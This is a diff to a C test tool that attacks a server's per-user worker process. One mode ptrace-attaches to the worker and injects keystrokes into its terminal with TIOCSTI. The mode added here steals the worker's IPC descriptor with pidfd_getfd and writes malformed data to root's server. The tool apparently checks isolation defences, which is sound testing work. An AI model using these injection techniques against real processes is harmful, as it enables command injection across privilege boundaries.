@@ -3,21 +3,25 @@
  * --users-socket` starts for them (a worker running as the user: the user
  * may ptrace it like any process of theirs). x86-64 only.
  *
- *   worker-inject SOCKET TEXT
+ *   worker-inject tty SOCKET TEXT
+ *   worker-inject ipc SOCKET
  *
  * connects to SOCKET (root hands the connection to the user's worker, made
  * on first use) and asks for /containers, finds the worker (a process of the
- * caller's uid whose parent is root's and whose command line says `serve`),
- * attaches to it with ptrace and makes it run, from its own context:
- * open("/dev/tty") and TIOCSTI of TEXT and a newline, byte by byte, on that
- * descriptor and on its fds 0, 1 and 2. Prints
+ * caller's uid whose parent is root's and whose command line says `serve`)
+ * and prints
  *
  *   WORKER <pid> ppid=<ppid> tty_nr=<n> sid=<sid>
- *   INJECT <target> <ok|-ERRNO>
- *   INJECT-DONE
  *
- * and exits 0; anything that stops the attack itself (no worker, ptrace
- * refused) prints FAIL <why> and exits 1.
+ * tty: attaches to it with ptrace and makes it run, from its own context,
+ * open("/dev/tty") and TIOCSTI of TEXT and a newline, byte by byte, on that
+ * descriptor and on its fds 0, 1 and 2: `INJECT attach ERRNO` when the
+ * attach is refused, else `INJECT <target> <ok|ERRNO>` each.
+ * ipc: takes the worker's fd 3 (its IPC channel with root's server) with
+ * pidfd_getfd and writes a line that is not JSON on it: `IPC <ok|ERRNO>`.
+ *
+ * Then `INJECT-DONE`, exit 0. Only what stops the attack before it starts
+ * (no answer, no worker) prints FAIL <why> and exits 1.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -63,22 +67,27 @@ static int status_field(pid_t pid, const char *key, long *out)
 	return found;
 }
 
+/* /proc/PID/NAME into BUF (NUL-terminated), its length; -1 if unreadable. */
+static ssize_t proc_text(pid_t pid, const char *name, char *buf, size_t size)
+{
+	char path[64];
+	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
+	FILE *f = fopen(path, "r");
+	size_t n = f ? fread(buf, 1, size - 1, f) : 0;
+	if (f)
+		fclose(f);
+	buf[n] = 0;
+	return f && n ? (ssize_t)n : -1;
+}
+
 static int says_serve(pid_t pid)
 {
-	char path[64], buf[4096];
-	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
-	int fd = open(path, O_RDONLY);
-	if (fd < 0)
-		return 0;
-	ssize_t n = read(fd, buf, sizeof(buf) - 1);
-	close(fd);
-	if (n <= 0)
-		return 0;
+	char buf[4096];
+	ssize_t n = proc_text(pid, "cmdline", buf, sizeof(buf));
 	for (ssize_t i = 0; i < n; i++)
 		if (!buf[i])
 			buf[i] = ' ';
-	buf[n] = 0;
-	return strstr(buf, " serve") != NULL;
+	return n > 0 && strstr(buf, " serve") != NULL;
 }
 
 static pid_t find_worker(void)
@@ -144,12 +153,26 @@ static long remote(long nr, long a, long b, long c)
 	return 0;
 }
 
+static void ipc(void)
+{
+	int pidfd = (int)syscall(SYS_pidfd_open, tid, 0);
+	int fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, 3, 0);
+	const char *junk = "{not json\n";
+	if (fd < 0 || write(fd, junk, strlen(junk)) < 0)
+		printf("IPC %s\n", strerrorname_np(errno));
+	else
+		printf("IPC ok\n");
+	printf("INJECT-DONE\n");
+}
+
 int main(int argc, char **argv)
 {
-	if (argc != 3) {
-		fprintf(stderr, "usage: worker-inject SOCKET TEXT\n");
+	int tty_mode = argc == 4 && !strcmp(argv[1], "tty");
+	if (!tty_mode && !(argc == 3 && !strcmp(argv[1], "ipc"))) {
+		fprintf(stderr, "usage: worker-inject tty SOCKET TEXT | ipc SOCKET\n");
 		return 2;
 	}
+	argv++;
 	setvbuf(stdout, NULL, _IONBF, 0);
 	int s = socket(AF_UNIX, SOCK_STREAM, 0);
 	struct sockaddr_un sa = { .sun_family = AF_UNIX };
@@ -168,19 +191,21 @@ int main(int argc, char **argv)
 		errno = ESRCH;
 		fail("no worker of mine");
 	}
-	char path[64], stat[1024];
-	snprintf(path, sizeof(path), "/proc/%d/stat", tid);
-	int fd = open(path, O_RDONLY);
-	ssize_t n = fd < 0 ? -1 : read(fd, stat, sizeof(stat) - 1);
-	if (n <= 0)
+	char stat[1024];
+	if (proc_text(tid, "stat", stat, sizeof(stat)) < 0)
 		fail("stat");
-	stat[n] = 0;
 	int ppid, pgrp, sid, tty_nr;
 	sscanf(strrchr(stat, ')') + 2, "%*c %d %d %d %d", &ppid, &pgrp, &sid, &tty_nr);
 	printf("WORKER %d ppid=%d tty_nr=%d sid=%d\n", tid, ppid, tty_nr, sid);
 
-	if (ptrace(PTRACE_ATTACH, tid, 0, 0) < 0)
-		fail("PTRACE_ATTACH");
+	if (!tty_mode) {
+		ipc();
+		return 0;
+	}
+	if (ptrace(PTRACE_ATTACH, tid, 0, 0) < 0) {
+		printf("INJECT attach %s\nINJECT-DONE\n", strerrorname_np(errno));
+		return 0;
+	}
 	int st;
 	if (waitpid(tid, &st, __WALL) < 0)
 		fail("waitpid");
